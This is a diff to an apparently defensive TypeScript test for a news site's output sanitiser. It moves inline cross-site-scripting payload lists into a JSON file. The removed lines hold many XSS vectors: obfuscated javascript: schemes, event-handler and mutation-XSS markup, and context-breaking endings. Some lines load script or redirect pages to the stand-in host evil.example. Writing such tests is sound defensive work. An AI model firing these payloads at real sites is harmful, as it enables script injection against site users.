@@ -17,92 +17,14 @@ import { compiledWith } from '../unit/build/documents.ts'
 import { libraryOf } from '../unit/read-library.ts'
 import { contextOf, made } from '../unit/syndication/helpers/site-context.ts'
 import { type Changes, writeNewsroom } from './newsroom.ts'
+import WRITTEN from './payloads.json' with { type: 'json' }
 
 const SITE = 'https://news.example/'
 const SCRIPT = 'alert(1)'
-const ADDRESSES = [
-  ...[
-    'javascript:',
-    'vbscript:',
-    'livescript:',
-    'data:text/javascript,',
-    'java\tscript:',
-    ' javascript:',
-    'java\nscript:',
-  ],
-  ...[
-    '&#106;avascript:',
-    'javascript&colon;',
-    'java&Tab;script:',
-    'javascript&#58;',
-    '%6aavascript:',
-    '\u0001javascript:',
-  ],
-  ...[
-    'view-source:javascript:',
-    'jar:javascript:',
-    'feed:javascript:',
-    'https:javascript:',
-    '//evil.example/',
-    '\\\\evil.example/',
-  ],
-].map((scheme) => scheme + SCRIPT)
-const MARKUP = [
-  ...[
-    `<script>${SCRIPT}</script>`,
-    `<script src=//evil.example/a.js>`,
-    `<img src=x onerror=${SCRIPT}>`,
-    `<svg onload=${SCRIPT}>`,
-  ],
-  ...[
-    `<iframe srcdoc="<script>${SCRIPT}</script>">`,
-    `<object data=javascript:${SCRIPT}>`,
-    `<embed src=javascript:${SCRIPT}>`,
-  ],
-  ...[
-    '<base href=//evil.example/>',
-    '<meta http-equiv=refresh content=0;//evil.example/>',
-    '<link rel=stylesheet href=//evil.example/a>',
-  ],
-  ...[
-    `<a href=javascript:${SCRIPT}>a</a>`,
-    `<form action=javascript:${SCRIPT}><button>a</button></form>`,
-    `<p style=x:y>a</p>`,
-  ],
-  ...[
-    `<video src=x onerror=${SCRIPT}>`,
-    `<details open ontoggle=${SCRIPT}>`,
-    `<math><mtext><style><img src onerror=${SCRIPT}>`,
-  ],
-  ...[
-    `<template><script>${SCRIPT}</script></template>`,
-    `<noscript><p title="</noscript><img src onerror=${SCRIPT}>">`,
-  ],
-  ...[
-    `<x-a onclick=${SCRIPT}>a</x-a>`,
-    `<language-picker onclick=${SCRIPT}>`,
-    `<svg><use href="data:image/svg+xml,<svg onload=${SCRIPT}>"/></svg>`,
-  ],
-]
+const ADDRESSES = WRITTEN.addresses.map((scheme) => scheme + SCRIPT)
+const MARKUP = WRITTEN.markup
 /** What may end the place in which a text stands, before the markup. */
-const ENDINGS = [
-  '',
-  '"',
-  "'",
-  '">',
-  "'>",
-  '</title>',
-  '</style>',
-  '</script>',
-  '</textarea>',
-  '-->',
-  ']]>',
-  '}}',
-  '`',
-  '\u2028',
-  '\\"',
-  '&quot;&gt;',
-]
+const ENDINGS = WRITTEN.endings
 /** Each markup after five of the endings, in turn. */
 const PAYLOADS = [
   ...ADDRESSES,
